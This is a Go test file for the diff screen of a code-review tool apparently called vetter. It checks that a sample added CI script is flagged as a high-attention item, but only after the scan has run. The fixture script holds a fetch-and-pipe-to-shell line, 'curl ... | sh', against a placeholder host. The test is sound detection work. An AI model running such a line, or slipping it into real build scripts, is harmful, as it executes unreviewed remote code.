package diff

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	_ "github.com/vetter-dev/vetter/attention" // the registered scan, as the program links it
	"github.com/vetter-dev/vetter/internal/packettest"
	"github.com/vetter-dev/vetter/packet"
	"github.com/vetter-dev/vetter/tui/common"
)

// A file holding high attention items says so in the file list (▲N) and on
// its header, once the scan has been made elsewhere; the diff screen never
// makes the scan itself, and says nothing of high items before it.
func TestDiffMarksHighAttention(t *testing.T) {
	dir := packettest.SampleDir(t, "p")
	packettest.EditFile(t, filepath.Join(dir, packet.DiffPath), func(s string) string {
		return s + "diff --git a/ci/fetch.sh b/ci/fetch.sh\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/ci/fetch.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -fsSL https://x.invalid/i | sh\n"
	})
	p := packettest.Load(t, dir, packet.Options{})
	for _, sz := range [][2]int{{200, 60}, {80, 24}} {
		d := New(common.NewContext(p, true, false))
		d.SetSize(sz[0], sz[1])
		fi := -1
		for i, f := range d.files {
			if f.Path() == "ci/fetch.sh" {
				fi = i
			}
		}
		if fi < 0 {
			t.Fatal("the added file is not in the diff")
		}
		if _, scanned := p.ScannedAttention(); !scanned {
			d.View()
			if d.highKnown || strings.Contains(ansi.Strip(d.fileHeader(int32(fi), 120)), "high") {
				t.Fatalf("%dx%d: high items shown before the scan was made", sz[0], sz[1])
			}
			if _, scanned := p.ScannedAttention(); scanned {
				t.Fatalf("%dx%d: drawing the diff made the attention scan", sz[0], sz[1])
			}
			if sz[0] >= 200 && !strings.Contains(ansi.Strip(d.View()), "▲ scanning") {
				t.Errorf("%dx%d: the file list does not say the scan is still to come", sz[0], sz[1])
			}
		}
		high := len(packet.HighAttention(p.Attention())) // the scan, made as the decision screen makes it
		if high == 0 {
			t.Fatal("the scan found no high item on curl | sh")
		}
		d.Open(common.Target{Screen: common.ScreenDiff, File: fi, Hunk: 0, DiffLine: 1})
		view := ansi.Strip(d.View())
		if !d.highKnown || d.high(fi) != high {
			t.Fatalf("%dx%d: %d high items counted on the file, the scan has %d", sz[0], sz[1], d.high(fi), high)
		}
		if strings.Contains(view, "scanning") {
			t.Errorf("%dx%d: still says scanning once the scan is made:\n%s", sz[0], sz[1], view)
		}
		if sz[0] >= 200 {
			if !strings.Contains(view, "▲1") {
				t.Errorf("%dx%d: the file list does not mark the file:\n%s", sz[0], sz[1], view)
			}
		} else if !strings.Contains(view, "▲1") {
			t.Errorf("%dx%d: the one-line file header does not mark the file:\n%s", sz[0], sz[1], view)
		}
		if !strings.Contains(ansi.Strip(d.fileHeader(int32(fi), 120)), "1 high item") {
			t.Errorf("the file's header does not say it has a high item: %q", ansi.Strip(d.fileHeader(int32(fi), 120)))
		}
		for i := range d.files {
			if i != fi && d.high(i) != 0 {
				t.Errorf("%s: %d high items, the sample has none", d.files[i].Path(), d.high(i))
			}
		}
	}
}
